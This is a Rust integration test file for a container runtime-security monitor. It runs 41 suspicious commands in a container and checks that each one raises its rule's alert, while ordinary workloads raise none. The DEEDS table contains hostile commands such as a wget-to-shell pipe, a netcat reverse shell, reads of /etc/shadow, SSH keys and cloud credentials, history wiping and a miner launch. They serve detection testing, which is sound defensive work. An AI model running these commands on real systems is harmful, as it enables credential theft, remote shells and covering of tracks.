// SPDX-License-Identifier: Apache-2.0
//! The rules that Lanner ships, in real containers: each deed raises its alert, and ordinary work raises none.
#![expect(clippy::tests_outside_test_module, clippy::unwrap_used, reason = "an integration test is a test module")]

use std::{collections::BTreeSet, fs, path::Path};

use integration::{
    Alert, Bundle, Container, Lanner,
    Requirement::{self, Program, Root},
    Settings, skipped, text, workload,
};
use serde_json::json;

/// Rule, what the container's shell does, and what the alert says of it.
const DEEDS: [(&str, &str, &str); 41] = [
    ("Shell reads from a socket", "suspect socket-shell", "(command=sh -c true stdin=ipv4 parent=suspect "),
    ("Shell of a network service", "nginx shell", "(command=sh -c true parent=nginx "),
    ("Download piped into a shell", "sh -c 'wget -O- http://192.0.2.1/ | sh'", "(command=sh -c wget -O- http"),
    ("Shell with a terminal", "suspect terminal-shell", "(command=sh -c true parent=suspect terminal=34816 "),
    ("Netcat runs a program", "nc -w 1 192.0.2.1 1 -e /bin/sh", "(command=nc -w 1 192.0.2.1 1 -e /bin/sh "),
    ("Connection made by a shell", "bash connect 192.0.2.1 443", "(connection=192.0.2.1:443 "),
    ("Account secrets read", "cat /etc/shadow", "(file=/etc/shadow process=cat "),
    ("SSH key read", "cat /root/.ssh/id_rsa", "(file=/root/.ssh/id_rsa process=cat "),
    ("Cloud credentials read", "cat /root/.aws/credentials", "(file=/root/.aws/credentials process=cat "),
    ("Pod token read", "cat /run/secrets/kubernetes.io/serviceaccount/token", "(file=/run/secrets/kubernetes.io/"),
    ("Credentials searched", "/bin/find /root -name id_rsa", "(command=find /root -name id_rsa "),
    ("Environment of another process read", "cat /proc/1/environ", "(file=/proc/1/environ process=cat "),
    ("Link to a secret made", "ln -s /etc/shadow /tmp/link", "(link=/tmp/link target=/etc/shadow "),
    ("Cloud metadata asked by a tool", "curl connect 169.254.169.254 80", "(connection=169.254.169.254:80 "),
    ("Package manager run", "apk add nmap", "(command=apk add nmap "),
    ("Linker preload file written", "echo /tmp/x.so > /etc/ld.so.preload", "(type=openat command=sh "),
    ("Program or library written", "echo x > /bin/new", "file=/bin/new "),
    ("Critical setting written", "echo >> /etc/passwd", "file=/etc/passwd "),
    ("Critical setting written", "mkdir /etc/cron.d; touch /etc/cron.d/job", "file=/etc/cron.d/job "),
    ("Set-user-id bit set", "touch /tmp/x; chmod u+s /tmp/x", "(file=/tmp/x open_file=<NA> mode="),
    ("Traces removed", "rm /root/.ash_history", "removed=/root/.ash_history "),
    ("Traces removed", "ln -s /dev/null /root/.bash_history", "link=/root/.bash_history "),
    ("Miner started", "xmrig --donate-level 1", "(command=xmrig --donate-level 1 program=/bin/xmrig "),
    ("Connection to a mining port", "suspect connect 198.51.100.7 3333", "(connection=198.51.100.7:3333 "),
    ("Program executed from memory", "suspect memory /bin/nothing", "(program=memfd:image "),
    ("Drift", "cp /bin/nothing /root/new; /root/new", "(program=/root/new command=new parent=sh upper_layer=true "),
    ("Drift", "cp /bin/nothing /tmp/new; /tmp/new", "(program=/tmp/new "),
    ("Library preloaded from a temporary directory", "LD_PRELOAD=/tmp/x.so /bin/nothing", "(preload=/tmp/x.so "),
    (
        "Dynamic linker runs a program",
        "/lib/ld-linux-x86-64.so.2 /bin/nothing",
        "(command=ld-linux-x86-64 /bin/nothing ",
    ),
    ("Kernel helper changed", "mkdir /tmp/cg; echo x > /tmp/cg/release_agent", "(file=/tmp/cg/release_agent "),
    ("Kernel code loaded", "suspect module", "(type=init_module command=suspect module "),
    ("BPF program loaded", "suspect bpf", "(command=suspect bpf "),
    ("User namespace made", "suspect unshare", "(flags=CLONE_NEWPID|CLONE_NEWUSER command=suspect unshare "),
    ("Namespace joined", "suspect setns", "kind=CLONE_NEWNET command=suspect setns "),
    ("File system mounted", "suspect mount", "(source=none target=/tmp kind=tmpfs "),
    ("Process taken over", "suspect ptrace", "(type=ptrace request=PTRACE_SEIZE "),
    ("Container engine contacted", "suspect connect-path /run/docker.sock", "(socket=/run/docker.sock "),
    ("Host device opened", "echo > /dev/sda1; cat /dev/sda1", "(file=/dev/sda1 command=cat /dev/sda1 "),
    ("Path through a process directory", "cat /proc/1/root/etc/hostname", "(file=/proc/1/root/etc/hostname "),
    ("File opened by handle", "suspect handle", "(command=suspect handle "),
    ("Ring set up", "suspect ring", "(command=suspect ring "),
];

fn shipped() -> String {
    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/files/lanner_rules.yaml");
    fs::read_to_string(file).unwrap()
}

/// A bundle whose shell runs `script`, which lies in the image.
fn bundle(script: &str) -> Bundle {
    let image = ("io.kubernetes.cri.image-name", "docker.io/library/work:1");
    let bundle = Bundle::new(&["sh", "/script"]).named("work").annotation(image.0, image.1);
    fs::write(bundle.inside("/script"), script).unwrap();
    bundle
}

/// The image that invites all deeds.
fn inviting(script: &str) -> Bundle {
    let (suspect, nothing) = (workload("suspect"), workload("nothing"));
    let bundle = bundle(script);
    for folder in ["/root/.ssh", "/root/.aws", "/run/secrets/kubernetes.io/serviceaccount", "/lib"] {
        fs::create_dir_all(bundle.inside(folder)).unwrap();
    }
    for file in ["/root/.ssh/id_rsa", "/root/.aws/credentials", "/root/.ash_history"] {
        fs::write(bundle.inside(file), "secret\n").unwrap();
    }
    fs::write(bundle.inside("/run/secrets/kubernetes.io/serviceaccount/token"), "secret\n").unwrap();
    let deeds = ["/bin/suspect", "/bin/nginx", "/bin/bash", "/bin/curl"];
    let nothings = ["/bin/nothing", "/bin/apk", "/bin/xmrig", "/lib/ld-linux-x86-64.so.2"];
    let bundle = deeds.iter().fold(bundle, |bundle, place| bundle.file(&suspect, place));
    nothings.iter().fold(bundle, |bundle, place| bundle.file(&nothing, place))
}

fn messages(alerts: &[Alert]) -> Vec<String> {
    alerts.iter().map(|alert| format!("{}: {}", alert.rule, alert.message)).collect()
}

fn raised(alerts: &[Alert], rule: &str, said: &str) -> bool {
    alerts.iter().any(|alert| alert.rule == rule && alert.message.contains(said))
}

#[test]
fn every_deed_raises_its_alert_and_no_other() {
    if skipped(&[Root, Requirement::Lanner, Program("runc"), Program("gcc")]) {
        return;
    }
    let lanner = Lanner::new(&Settings::audit(&shipped()));
    let script: String = DEEDS.iter().flat_map(|(_, deed, _)| [*deed, "\n"]).collect();
    let bundle = inviting(&script).on_overlay();
    let output = Container::run(&lanner.engine(), &bundle);
    let alerts = lanner.alerts();
    let missing: Vec<_> = DEEDS.iter().filter(|(rule, _, said)| !raised(&alerts, rule, said)).collect();
    assert!(
        missing.is_empty(),
        "{missing:#?} lack their alerts, of {:#?}\n{}",
        messages(&alerts),
        text(&output.stderr)
    );
    let expected: BTreeSet<_> = DEEDS.iter().map(|(rule, ..)| *rule).collect();
    // Lanner itself mentions the ring too.
    let of_rules: Vec<_> = alerts.iter().filter(|alert| alert.source == "syscall").collect();
    assert_eq!(of_rules.iter().map(|alert| alert.rule.as_str()).collect::<BTreeSet<_>>(), expected);
    let is_named = |alert: &&&Alert| {
        alert.text("container.name") == "work" && alert.text("container.image") == "docker.io/library/work:1"
    };
    let nameless = of_rules.iter().find(|alert| !is_named(alert));
    assert!(nameless.is_none(), "{nameless:?}");
    lanner.expect_nothing_left();
}

#[test]
fn only_what_is_safe_to_deny_is_denied_where_the_default_is_to_alert() {
    if skipped(&[Root, Requirement::Lanner, Program("runc"), Program("gcc")]) {
        return;
    }
    let lanner = Lanner::new(&Settings::enforce(&shipped()).with("enforce: {default_action: alert}\n"));
    let script: String = DEEDS.iter().flat_map(|(_, deed, _)| [*deed, "\n"]).collect();
    let bundle = inviting(&script).on_overlay();
    Container::run(&lanner.engine(), &bundle);
    let alerts = lanner.alerts();
    let verdicts = |verdict: &str| -> BTreeSet<String> {
        let with_verdict = alerts.iter().filter(|alert| alert.verdict.as_deref() == Some(verdict));
        with_verdict.map(|alert| alert.rule.clone()).collect()
    };
    let (denied, allowed) = (verdicts("deny"), verdicts("allow"));
    assert_eq!(denied, denying_rules());
    assert!(denied.is_disjoint(&allowed) && allowed.len() > denied.len(), "{allowed:?}");
    lanner.expect_nothing_left();
}

/// The rules that have `action: deny`.
fn denying_rules() -> BTreeSet<String> {
    let (mut rule, mut denying) = (String::new(), BTreeSet::new());
    for line in shipped().lines() {
        if let Some(name) = line.strip_prefix("- rule: ") {
            name.clone_into(&mut rule);
        } else if line == "  action: deny" {
            denying.insert(rule.clone());
        }
    }
    denying
}

/// Runs ordinary work and sees no alert but that of a last deed, which shows that the rules were awake.
#[track_caller]
fn check_silence(bundle: &Bundle, printed: &str) {
    let lanner = Lanner::new(&Settings::audit(&shipped()));
    let output = Container::run(&lanner.engine(), bundle);
    let (stdout, stderr) = (text(&output.stdout), text(&output.stderr));
    assert!(stdout.contains(printed), "the work was not done: {stdout}\n{stderr}");
    let alerts = lanner.alerts();
    assert!(
        matches!(&*alerts, [last] if last.message.contains("command=cat /etc/shadow ")),
        "{:#?}",
        messages(&alerts)
    );
    lanner.expect_nothing_left();
}

/// Work for the host's own programs.
fn host_bundle(script: &str) -> Bundle {
    Bundle::new(&["sh", "-ec", &format!("{script}\nexec cat /etc/shadow")]).over_host()
}

#[test]
fn a_web_server_is_silent() {
    if skipped(&[Root, Requirement::Lanner, Program("runc")]) {
        return;
    }
    let script = "
        ip link set lo up
        mkdir /srv
        echo hello > /srv/index.html
        httpd -p 127.0.0.1:80 -h /srv
        for request in 1 2 3 4 5 6 7 8 9 10; do wget -q -O- http://127.0.0.1/ || exit 1; done
        /bin/cat /etc/shadow";
    let rights = json!(["CAP_NET_ADMIN", "CAP_NET_BIND_SERVICE"]);
    let sets = ["bounding", "effective", "permitted"];
    let bundle = sets
        .iter()
        .fold(bundle(script), |bundle, set| bundle.set(&format!("/process/capabilities/{set}"), rights.clone()));
    check_silence(&bundle.on_overlay(), &"hello\n".repeat(10));
}

#[test]
fn a_c_build_is_silent() {
    if skipped(&[Root, Requirement::Lanner, Program("runc"), Program("gcc"), Program("make")]) {
        return;
    }
    let script = r#"
        mkdir /srv/build
        cd /srv/build
        for part in one two three four; do echo "int $part(void) { return 1; }" > $part.c; done
        echo 'int one(void), two(void); int main(void) { return one() + two() - 2; }' > main.c
        printf 'all: main libparts.a libparts.so\n' > Makefile
        printf 'main: main.o one.o two.o\nlibparts.a: one.o two.o\n\tar rcs $@ $^\n' >> Makefile
        printf 'libparts.so: three.c four.c\n\tgcc -shared -fPIC -o $@ $^\n' >> Makefile
        make -j2 CFLAGS=-O2
        strip main
        make -j2 CFLAGS=-O2 | sed 's/^/again: /'"#;
    check_silence(&host_bundle(script), "again: make: Nothing to be done");
}

#[test]
fn scripts_as_cron_runs_them_are_silent() {
    if skipped(&[Root, Requirement::Lanner, Program("runc")]) {
        return;
    }
    let script = r#"
        umask 027
        work=$(mktemp -d)
        trap 'rm -rf "$work"' EXIT
        mkdir -p /srv/app/data /srv/backups /var/log/app
        for day in 1 2 3; do
            date > /srv/app/data/$day
            tar -C /srv/app -czf "$work/$day.tar.gz" data
            mv "$work/$day.tar.gz" /srv/backups/
            echo "backup $day" >> /var/log/app/backup.log
        done
        mv /var/log/app/backup.log /var/log/app/backup.log.1
        gzip /var/log/app/backup.log.1
        find /srv/backups -name '*.tar.gz' -mtime +7 -exec rm {} \;
        find /tmp /var/tmp -xdev -type f -atime +30 -print | wc -l
        grep -c root /etc/passwd
        chmod -R u=rwX,go= /srv/backups
        ln -sf /srv/backups/3.tar.gz /srv/backups/latest
        sha256sum /srv/backups/latest | cut -c 1-8
        ls -l /srv/backups | awk '/latest/ { print "links to " $NF }'"#;
    check_silence(&host_bundle(script), "links to /srv/backups/3.tar.gz");
}

#[test]
fn python_is_silent() {
    if skipped(&[Root, Requirement::Lanner, Program("runc"), Program("python3")]) {
        return;
    }
    let script = r#"
        mkdir /srv/app
        echo 'def answer(): return 42' > /srv/app/module.py
        cd /srv/app
        python3 -c '
import json, logging, os, socket, ssl, subprocess, tempfile, threading, urllib.request
import module
with tempfile.NamedTemporaryFile() as file: file.write(b"x")
print(json.dumps({"answer": module.answer(), "said": subprocess.check_output(["echo", "hi"]).decode()}))
'"#;
    check_silence(&host_bundle(script), r#"{"answer": 42, "said": "hi\n"}"#);
}

#[test]
fn sqlite_is_silent() {
    if skipped(&[Root, Requirement::Lanner, Program("runc"), Program("sqlite3")]) {
        return;
    }
    let script = "
        sqlite3 /srv/new.db 'pragma journal_mode=wal; create table t(a); insert into t values (1), (2)'
        sqlite3 /srv/new.db 'begin; insert into t values (39); select sum(a) from t; commit; vacuum'";
    check_silence(&host_bundle(script), "42");
}

#[test]
fn postgresql_is_silent() {
    if skipped(&[Root, Requirement::Lanner, Program("runc"), Program("pg_ctlcluster")]) {
        return;
    }
    let script = r#"
        PATH=$(ls -d /usr/lib/postgresql/*/bin | tail -n 1):$PATH
        export PGHOST=/tmp PGDATA=/tmp/data
        initdb --auth=trust --no-sync > /tmp/initdb.log
        pg_ctl start --silent --wait --log /tmp/log --options "-c listen_addresses= -k /tmp -c fsync=off"
        psql -d postgres -c 'create table t as select generate_series(1, 1000) a' -c 'analyze' -c 'checkpoint'
        psql -d postgres -Atc 'select sum(a) from t'
        pg_ctl stop --silent --mode fast"#;
    let accounts = fs::read_to_string("/etc/passwd").unwrap();
    let account = accounts.lines().find_map(|line| line.strip_prefix("postgres:x:"));
    let user: u32 = account.and_then(|rest| rest.split(':').next()?.parse().ok()).unwrap();
    let bundle = host_bundle(script).set("/process/user", json!({ "uid": user, "gid": user }));
    check_silence(&bundle, "500500");
}
